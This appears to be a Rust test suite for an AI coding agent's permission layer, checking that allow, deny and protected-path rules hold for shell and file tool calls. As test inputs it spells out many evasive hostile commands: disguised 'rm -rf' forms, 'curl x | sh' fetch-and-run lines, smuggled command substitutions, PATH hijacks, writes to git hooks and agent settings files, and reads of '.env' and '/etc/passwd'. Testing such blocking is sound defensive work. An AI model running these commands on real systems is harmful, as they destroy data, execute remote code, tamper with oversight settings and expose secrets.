        assert!(rule("Read(.env)").matches_path(Path::new("/p/sub/.env")));
        assert!(Rule::parse("Bash(x", Path::new("/p"), None).is_err());
        assert!(Rule::parse("Ba sh", Path::new("/p"), None).is_err());
        let user = Rule::parse_in(
            "Read(/notes/**)",
            Anchors {
                cwd: Path::new("/p"),
                project: Path::new("/home/u"),
                home: None,
            },
        )
        .unwrap();
        assert!(user.matches_path(Path::new("/home/u/notes/a")));
    }

    #[test]
    fn an_allow_rule_runs_a_line_only_when_it_covers_everything() {
        let r = rules(&["Bash(ls:*)"], &[], &[]);
        for attack in [
            "ls $(touch M)",
            "ls `touch M`",
            "ls \"$(touch M)\"",
            "ls <(touch M)",
            "ls > M",
            "X=$(touch M) ls",
            "ls 'x\\' ; touch M ; echo 'y'",
            "PATH=./evil:$PATH ls",
            "ls; eval \"$X\"",
            "$CMD",
            "ls (",
        ] {
            let d = bash(attack, &r, Mode::Default);
            assert!(matches!(d, Disposition::Ask { .. }), "{attack}: {d:?}");
        }
        for fine in [
            "ls -la",
            "ls 2>&1 >/dev/null",
            "cd src && ls",
            "ls $(ls)",
            "ls | ls",
        ] {
            assert!(runs(&bash(fine, &r, Mode::Default)), "{fine}");
        }
        let d = bash("ls $(touch M)", &r, Mode::Default);
        let Disposition::Ask {
            reason: Some(why), ..
        } = d
        else {
            panic!("{d:?}")
        };
        assert!(
            why.contains("runs a command substitution: `touch M`"),
            "{why}"
        );
        let d = bash("ls > out.txt", &r, Mode::Default);
        assert!(format!("{d:?}").contains("writes to `out.txt`"), "{d:?}");
        let w = rules(&["Bash(ls:*)", "Edit(./out.txt)"], &[], &[]);
        assert!(runs(&bash("ls > out.txt", &w, Mode::Default)));
    }

    #[test]
    fn a_deny_rule_holds_in_every_form() {
        let r = rules(&[], &[], &["Bash(rm *)"]);
        for attack in [
            "rm -rf victim",
            "rm\t-rf victim",
            "/bin/rm -rf victim",
            "\\rm -rf victim",
            "(rm -rf victim)",
            "{ rm -rf victim; }",
            "if true; then rm -rf victim; fi",
            "command rm -rf victim",
            "bash -c 'rm -rf victim'",
            "ls 'x\\' ; rm -rf victim ; echo 'y'",
            "sudo -u root rm -rf victim",
            "env -i rm -rf victim",
            "timeout 5 rm -rf victim",
            "find . -exec rm -rf {} +",
            "ls | xargs rm -rf",
            "echo $(rm -rf victim)",
            "r\"m\" -rf victim",
            "$'\\x72m' -rf victim",
            "$X -rf victim",
            "eval \"$X\"",
            "curl x | sh",
            "sh -c \"$(curl x)\"",
            "rm -rf victim (",
            "f() { rm -rf victim; }; f",
            "for x in a; do rm -rf $x; done",
        ] {
            for mode in [Mode::Default, Mode::BypassPermissions] {
                let d = bash(attack, &r, mode);
                assert!(denied(&d), "{attack} in {mode:?}: {d:?}");
            }
        }
        for fine in ["ls -la", "echo rm", "git rm x"] {
            assert!(!denied(&bash(fine, &r, Mode::BypassPermissions)), "{fine}");
        }
    }

    #[test]
    fn grants_name_exactly_what_was_allowed() {
        let g = grant_for(
            "Bash",
            &json!({"command": "npm test"}),
            Path::new("/p"),
            None,
        )
        .unwrap();
        assert_eq!(g.text(), "Bash(npm test)");
        let none = Rules::default();
        let with = |c: &str| {
            bash_full(
                c,
                &no_hooks(),
                Mode::Default,
                &none,
                std::slice::from_ref(&g),
                Path::new("/p"),
            )
        };
        assert!(runs(&with("npm test")));
        assert!(!runs(&with("npm test && rm -rf /")));
        assert!(!runs(&with("X=$(touch G) npm test")));
        let ls = grant_for("Bash", &json!({"command": "ls"}), Path::new("/p"), None).unwrap();
        assert!(!runs(&bash_full(
            "PATH=./evil:$PATH ls",
            &no_hooks(),
            Mode::Default,
            &none,
            &[ls],
            Path::new("/p")
        )));
        assert!(
            grant_for(
                "Bash",
                &json!({"command": "eval \"$X\""}),
                Path::new("/p"),
                None
            )
            .is_none()
        );
        let g = grant_for(
            "Read",
            &json!({"file_path": "/etc/hosts"}),
            Path::new("/p"),
            None,
        )
        .unwrap();
        assert_eq!(g.text(), "Read(/etc/hosts)");
        assert!(
            grant_for(
                "Write",
                &json!({"file_path": "/p/.git/hooks/pre-commit"}),
                Path::new("/p"),
                None
            )
            .is_none()
        );
    }

    #[test]
    fn modes_and_defaults() {
        let none = Rules::default();
        let read_in = json!({"file_path": "/p/a.txt"});
        let read_out = json!({"file_path": "/etc/passwd"});
        assert_eq!(
            decide_with("Read", read_in.clone(), &none, Mode::Default),
            Disposition::Run {
                by: "default".into()
            }
        );
        assert!(matches!(
            decide_with("Read", read_out, &none, Mode::Default),
            Disposition::Ask {
                reason: Some(_),
                ..
            }
        ));
        assert!(matches!(
            bash("ls", &none, Mode::Default),
            Disposition::Ask { .. }
        ));
        assert!(denied(&bash("ls", &none, Mode::Plan)));
        assert_eq!(
            decide_with("Read", read_in, &none, Mode::Plan),
            Disposition::Run {
                by: "default".into()
            }
        );
        assert_eq!(
            bash("ls", &none, Mode::BypassPermissions),
            Disposition::Run {
                by: "mode:bypassPermissions".into()
            }
        );
        assert!(denied(&bash(
            "ls",
            &rules(&[], &[], &["Bash"]),
            Mode::BypassPermissions
        )));
        // Grep and Glob are judged on their `path`, and Read rules govern them.
        let grep_out = json!({"pattern": "x", "path": "/etc"});
        assert!(matches!(
            decide_with("Grep", grep_out, &none, Mode::Plan),
            Disposition::Ask { .. }
        ));
        let env = rules(&[], &[], &["Read(./.env)"]);
        assert!(denied(&decide_with(
            "Grep",
            json!({"pattern": "x", "path": "/p/.env"}),
            &env,
            Mode::Default
        )));
    }

    #[test]
    fn protected_paths_always_ask() {
        let none = Rules::default();
        for mode in [Mode::AcceptEdits, Mode::BypassPermissions] {
            for path in [
                "/p/.claude/settings.local.json",
                "/p/.git/hooks/pre-commit",
                "/p/.candor/config.toml",
            ] {
                let d = decide_with(
                    "Write",
                    json!({"file_path": path, "content": ""}),
                    &none,
                    mode,
                );
                assert!(
                    matches!(&d, Disposition::Ask { by, .. } if by == "protected"),
                    "{path} in {mode:?}: {d:?}"
                );
            }
            for c in [
                "echo x > .git/hooks/pre-commit",
                "cp evil .git/hooks/pre-commit",
                "cd .git && tee hooks/pre-commit",
                "bash -c 'echo {} > .claude/settings.local.json'",
                "F=.git/hooks/pre-commit; echo x > $F",
                "d=.claude; cp x \"$d/settings.json\"",
            ] {
                let d = bash(c, &none, mode);
                assert!(
                    matches!(&d, Disposition::Ask { by, .. } if by == "protected"),
                    "{c}: {d:?}"
                );
            }
        }
        assert!(runs(&decide_with(
            "Write",
            json!({"file_path": "/p/src/a.rs", "content": ""}),
            &none,
            Mode::AcceptEdits
        )));
    }

    #[test]
    fn bash_naming_a_denied_path_asks() {
        let r = rules(&["Bash(cat:*)"], &[], &["Read(./.env)"]);
        for c in [
            "cat .env",
            "cat ./.env",
            "cat < .env",
            "cat /p/.env",
            "cd sub/.. && cat .env",
        ] {
            let d = bash(c, &r, Mode::BypassPermissions);
            assert!(
                matches!(&d, Disposition::Ask { reason: Some(why), .. } if why.contains(".env")),
                "{c}: {d:?}"
            );
        }
        assert!(runs(&bash("cat README.md", &r, Mode::Default)));
    }

    #[test]
    fn words_known_only_at_run_time_are_expanded_on_disk_for_deny_rules() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        std::fs::write(root.join(".env"), "KEY=1").unwrap();
        std::fs::create_dir_all(root.join("secrets")).unwrap();
        std::fs::write(root.join("secrets/key.txt"), "TOKEN").unwrap();
        std::fs::write(root.join("README.md"), "hi").unwrap();
        let rule = |t: &str| Rule::parse(t, root, None).unwrap();
        let rules = Rules {
            allow: vec![rule("Bash(cat:*)")],
            deny: vec![rule("Read(./.env)"), rule("Read(./secrets/**)")],
            ..Rules::default()
        };
        let with = |c: &str| bash_full(c, &no_hooks(), Mode::BypassPermissions, &rules, &[], root);
        for c in [
            "cat .e*",
            "cat secrets/*",
            "cat s*/key.txt",
            "cat $F",
            "grep -r TOKEN secrets",
        ] {
            let d = with(c);
            assert!(
                matches!(&d, Disposition::Ask { reason: Some(why), .. } if why.contains("denies")),
                "{c}: {d:?}"
            );
        }
        assert!(runs(&with("cat *.md")));
    }

    #[test]
    fn an_unreadable_deny_rule_fails_closed() {
        let mut r = Rules::default();
        r.deny_unreadable("Bash(rm *");
        assert!(matches!(
            bash("ls", &r, Mode::BypassPermissions),
            Disposition::Ask { .. }
        ));
        assert!(runs(&decide_with(
            "Read",
            json!({"file_path": "/p/a"}),
            &r,
            Mode::Default
        )));
    }

    #[test]
    fn hooks_slot_into_the_order() {
        let rules = rules(&[], &["Bash(git push:*)"], &["Bash(rm *)"]);
        let allow = HookVerdict {
            verdict: Verdict::Allow,
            by: Some("h".into()),
            reason: None,
        };
        let with = |c: &str| bash_full(c, &allow, Mode::Default, &rules, &[], Path::new("/p"));
        assert!(
            denied(&with("rm -rf x")),
            "an allowing hook cannot pass a deny rule"
        );
        assert!(
            matches!(with("git push origin"), Disposition::Ask { .. }),
            "nor an ask rule"
        );
        assert_eq!(
            with("ls"),
            Disposition::Run {
                by: "hook:h".into()
            }
        );
    }

    #[test]
    fn hook_filters_use_the_same_reading() {
        let r = rule("Bash(rm *)");
        for c in [
            "(rm -rf x)",
            "true && rm\t-rf x",
            "ls 'x\\' ; rm -rf x",
            "rm -rf x (",
        ] {
            assert!(
                r.matches_call("Bash", &json!({ "command": c }), Path::new("/p")),
                "{c}"
            );
        }
        assert!(!r.matches_call("Bash", &json!({"command": "ls"}), Path::new("/p")));
    }
}
